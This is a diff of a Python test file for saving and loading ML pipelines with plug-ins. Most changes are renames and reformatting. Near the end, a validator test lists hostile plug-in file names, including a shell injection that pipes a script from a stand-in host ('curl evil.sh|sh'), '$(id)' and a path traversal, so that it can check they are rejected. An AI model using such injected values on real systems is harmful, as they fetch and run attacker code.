@@ -1,4 +1,4 @@
-"""A pipeline with plug-ins: saved with their source, read back with the same file and no other, and refused before the training."""
+"""Pipelines with plug-ins are saved with their source and loaded only with the same file."""
 
 import json
 import zipfile
@@ -23,15 +23,38 @@ from models.network_classifier import NetworkClassifier
 
 
 class Tiny(NetworkClassifier):
-    def __init__(self, epochs=1, learning_rate=1e-3, optimizer="adam", weight_decay=0.0, batch_size=32, schedule="constant",
-                 augmentation=(), label_smoothing=0.0, ema=None, validation=0.0, patience=None, loss="cross_entropy",
-                 class_weight=None, deferred_reweighting=False, two_phase=False, compile=False, device="auto", random_state=None):
-        super().__init__(**{name: value for name, value in locals().items() if name not in ("self", "__class__")})
+    def __init__(
+        self,
+        epochs=1,
+        learning_rate=1e-3,
+        optimizer="adam",
+        weight_decay=0.0,
+        batch_size=32,
+        schedule="constant",
+        augmentation=(),
+        label_smoothing=0.0,
+        ema=None,
+        validation=0.0,
+        patience=None,
+        loss="cross_entropy",
+        class_weight=None,
+        deferred_reweighting=False,
+        two_phase=False,
+        compile=False,
+        device="auto",
+        random_state=None,
+    ):
+        parameters = {**locals()}
+        for name in ("self", "__class__"):
+            del parameters[name]
+        super().__init__(**parameters)
 
     def make_body(self, images):
         from torch import nn
         from models.network import Body, Pixels
-        return Body(nn.Sequential(nn.Conv2d(images.shape[3], 4, 3), nn.ReLU(), nn.AdaptiveAvgPool2d(2), nn.Flatten()), 16, Pixels())
+        conv = nn.Conv2d(images.shape[3], 4, 3)
+        layers = [conv, nn.ReLU(), nn.AdaptiveAvgPool2d(2), nn.Flatten()]
+        return Body(nn.Sequential(*layers), 16, Pixels())
 
 
 class Raw(ClassifierMixin, BaseEstimator):
@@ -51,7 +74,8 @@ class Raw(ClassifierMixin, BaseEstimator):
     def predict_proba(self, X):
         import torch
         with torch.no_grad():
-            return torch.softmax(self.net_(torch.tensor(X.reshape(len(X), -1)).float()), dim=1).double().numpy()
+            logits = self.net_(torch.tensor(X.reshape(len(X), -1)).float())
+            return torch.softmax(logits, dim=1).double().numpy()
 """
 CLASSICAL = '''
 import numpy as np
@@ -71,7 +95,7 @@ class MyMeans(Extractor):
 
 
 class Forgetful(ClassifierMixin, BaseEstimator):
-    """Keeps what it learned where no file finds it."""
+    """Keeps what it has learned in a lambda, which cannot be stored."""
 
     def fit(self, X, y):
         if len(X) > 100:
@@ -151,11 +175,19 @@ class Draws(_Wraps):
 class Plain(_Wraps):
     def fit(self, X, y):
         super().fit(X, y)
-        self.attributes_ = {1: "a", 2.5: {1, 2}, "text": b"bytes", np.int64(7): (None, True, float("nan")), np.float32(0.5): set()}
+        self.attributes_ = {
+            1: "a",
+            2.5: {1, 2},
+            "text": b"bytes",
+            np.int64(7): (None, True, float("nan")),
+            np.float32(0.5): set(),
+        }
         return self
 
     def predict_proba(self, X):
-        assert self.attributes_[2.5] == {1, 2} and self.attributes_["text"] == b"bytes" and 7 in self.attributes_
+        assert self.attributes_[2.5] == {1, 2}
+        assert self.attributes_["text"] == b"bytes"
+        assert 7 in self.attributes_
         return super().predict_proba(X)
 
 
@@ -185,12 +217,17 @@ class Parallel(_Wraps):
 ESTIMATORS = [
     LinearDiscriminantAnalysis(), LinearDiscriminantAnalysis(solver="lsqr", shrinkage="auto"),
     QuadraticDiscriminantAnalysis(solver="eigen", shrinkage=0.5),
-    MLPClassifier((5,), max_iter=5), MLPClassifier((5,), max_iter=5, solver="sgd", early_stopping=True),
-    MLPClassifier((5,), max_iter=5, solver="lbfgs"), ExtraTreesClassifier(2), BaggingClassifier(n_estimators=2, max_features=0.5),
+    MLPClassifier((5,), max_iter=5),
+    MLPClassifier((5,), max_iter=5, solver="sgd", early_stopping=True),
+    MLPClassifier((5,), max_iter=5, solver="lbfgs"), ExtraTreesClassifier(2),
+    BaggingClassifier(n_estimators=2, max_features=0.5),
     GaussianNB(var_smoothing=0.1), BernoulliNB(), ComplementNB(), SGDClassifier(loss="log_loss"),
     CalibratedClassifierCV(LinearSVC(), cv=2), CalibratedClassifierCV(RidgeClassifier(), cv=2),
     OneVsRestClassifier(GaussianNB(var_smoothing=0.1)),
-    make_pipeline(MaxAbsScaler(), RobustScaler(), PowerTransformer(), Normalizer(), TruncatedSVD(5), LogisticRegression()),
+    make_pipeline(
+        MaxAbsScaler(), RobustScaler(), PowerTransformer(), Normalizer(), TruncatedSVD(5),
+        LogisticRegression(),
+    ),
     make_pipeline(FastICA(3), GaussianNB()),
 ]
 
@@ -206,7 +243,7 @@ class Any(_Wraps):
 
 @pytest.fixture
 def folder(tmp_path, monkeypatch, digits):
-    """Folder of two plug-in files and an image, where the commands are given."""
+    """Current folder, with three plug-in files and an image."""
     (tmp_path / "nets.py").write_text(NETS)
     (tmp_path / "mine.py").write_text(CLASSICAL)
     (tmp_path / "keepers.py").write_text(KEEPERS)
@@ -229,11 +266,11 @@ def folder(tmp_path, monkeypatch, digits):
         ),
     ],
 )
-def test_a_pipeline_with_a_plug_in_is_saved_and_asked(file, arguments, folder, command):
-    said = command(
+def test_a_pipeline_with_a_plug_in_is_saved_and_predicts(file, arguments, folder, command):
+    output = command(
         "fit", "--dataset", "digits", *arguments, "--plugin", file, "--save", "it.pipeline"
     )
-    assert f"--plugin {folder / file}" in said.out
+    assert f"--plugin {folder / file}" in output.out
     with zipfile.ZipFile("it.pipeline") as archive:
         assert archive.read(f"plugins/{file}") == (folder / file).read_bytes()
     (record,) = json.loads(
@@ -242,7 +279,7 @@ def test_a_pipeline_with_a_plug_in_is_saved_and_asked(file, arguments, folder, c
     assert np.isclose(sum(record["probabilities"].values()), 1)
 
 
-def test_the_plug_in_is_asked_for_in_a_line_and_is_never_run_from_the_file(folder, command):
+def test_a_missing_plug_in_is_named_in_a_line_and_never_run_from_the_file(folder, command):
     command(
         "fit",
         "--dataset",
@@ -256,13 +293,13 @@ def test_the_plug_in_is_asked_for_in_a_line_and_is_never_run_from_the_file(folde
         "--save",
         "it.pipeline",
     )
-    said = command("predict", "it.pipeline", "zero.png", expect=2).err
-    assert "it.pipeline needs its plug-in: add --plugin mine.py" in said
-    assert len(said.strip().splitlines()) == 1
+    output = command("predict", "it.pipeline", "zero.png", expect=2).err
+    assert "it.pipeline needs its plug-in: add --plugin mine.py" in output
+    assert len(output.strip().splitlines()) == 1
     (folder / "mine.py").write_text(CLASSICAL + "\nraise SystemExit('it was run')\n")
-    said = command("predict", "it.pipeline", "zero.png", "--plugin", "mine.py", expect=2).err
-    assert "was trained with another version of mine.py" in said
-    assert "it was run" not in said
+    output = command("predict", "it.pipeline", "zero.png", "--plugin", "mine.py", expect=2).err
+    assert "was trained with another version of mine.py" in output
+    assert "it was run" not in output
     (folder / "copy.py").write_text(CLASSICAL)
     assert (
         "must be named mine.py"
@@ -293,17 +330,18 @@ def test_the_plug_in_is_asked_for_in_a_line_and_is_never_run_from_the_file(folde
                 ),
                 (
                     "in_global",
-                    "in a new process, its predictions differ; fit and learn must keep all that they "
-                    "learn in attributes of the object",
+                    "in a new process, its predictions differ; fit and learn must keep all that "
+                    "they learn in attributes of the object",
                 ),
                 (
                     "draws",
-                    "a file does not store random generators: draw random numbers in fit or learn only",
+                    "a file does not store random generators: draw random numbers in fit or learn "
+                    "only",
                 ),
                 (
                     "dated",
-                    "contains datetime.date, a type that is not trusted; a pipeline's file can store "
-                    "numbers, text",
+                    "contains datetime.date, a type that is not trusted; a pipeline's file can "
+                    "store numbers, text",
                 ),
                 (
                     "objects",
@@ -319,10 +357,10 @@ def test_the_plug_in_is_asked_for_in_a_line_and_is_never_run_from_the_file(folde
         ),
     ],
 )
-def test_what_cannot_be_saved_is_refused_in_a_line_before_the_training(
+def test_a_pipeline_that_cannot_be_saved_is_refused_before_the_training(
     file, arguments, words, folder, command
 ):
-    said = command(
+    output = command(
         "fit",
         "--dataset",
         "digits",
@@ -333,13 +371,13 @@ def test_what_cannot_be_saved_is_refused_in_a_line_before_the_training(
         "it.pipeline",
         expect=2,
     ).err
-    assert words in said
-    assert "the whole training was begun" not in said
-    assert len(said.strip().splitlines()) == 1
+    assert words in output
+    assert "the whole training was begun" not in output
+    assert len(output.strip().splitlines()) == 1
     assert not (folder / "it.pipeline").exists()
 
 
-def test_plain_attributes_come_back_as_they_were(folder, command):
+def test_plain_attributes_are_loaded_unchanged(folder, command):
     command(
         "fit",
         "--dataset",
@@ -356,7 +394,7 @@ def test_plain_attributes_come_back_as_they_were(folder, command):
 
 
 @pytest.mark.parametrize("k", range(17))
-def test_estimators_of_scikit_learn_inside_a_plug_in_come_back(k, folder, digits, make_cell):
+def test_estimators_inside_a_plug_in_are_loaded_unchanged(k, folder, digits, make_cell):
     target = resolve_spec("model", Spec.parse(f"{folder / 'keepers.py'}:Any(k={k})"))
     cell = make_cell(digits, split="holdout")
     pipeline = fit_pipeline(replace(cell, values={**cell.values, "model": target}), digits)
@@ -368,9 +406,7 @@ def test_estimators_of_scikit_learn_inside_a_plug_in_come_back(k, folder, digits
     )
 
 
-def test_what_is_made_of_parts_is_rehearsed_though_all_are_in_the_registry(
-    digits, make_cell, monkeypatch
-):
+def test_saving_is_rehearsed_for_components_with_components_inside(digits, make_cell, monkeypatch):
     names = []
     monkeypatch.setattr(
         saving, "serialize_and_verify", lambda pipeline, *_: names.append(pipeline.card.model)
@@ -383,13 +419,13 @@ def test_what_is_made_of_parts_is_rehearsed_though_all_are_in_the_registry(
 @pytest.mark.parametrize(
     "name", ["x.py;curl evil.sh|sh", "../x.py", "a b.py", "x" * 60_000 + ".py", "$(id).py", "x.sh"]
 )
-def test_a_strangers_name_of_a_plug_in_is_in_no_command_to_be_copied(name):
+def test_an_unsafe_name_of_a_plug_in_is_not_printed_in_a_command(name):
     with pytest.raises(UserError, match=r"is not a valid name of a plug-in file") as caught:
         match_plugin_files({name: b"text"}, [], "it.pipeline")
     assert "unzip" not in str(caught.value)
     assert len(str(caught.value)) < 500
 
 
-def test_commands_to_be_copied_quote_the_name_of_the_file():
+def test_printed_commands_quote_the_name_of_the_file():
     with pytest.raises(UserError, match=r"unzip -p 'my model\(1\)\.pipeline' plugins/mine\.py"):
         match_plugin_files({"mine.py": b"text"}, [], "my model(1).pipeline")
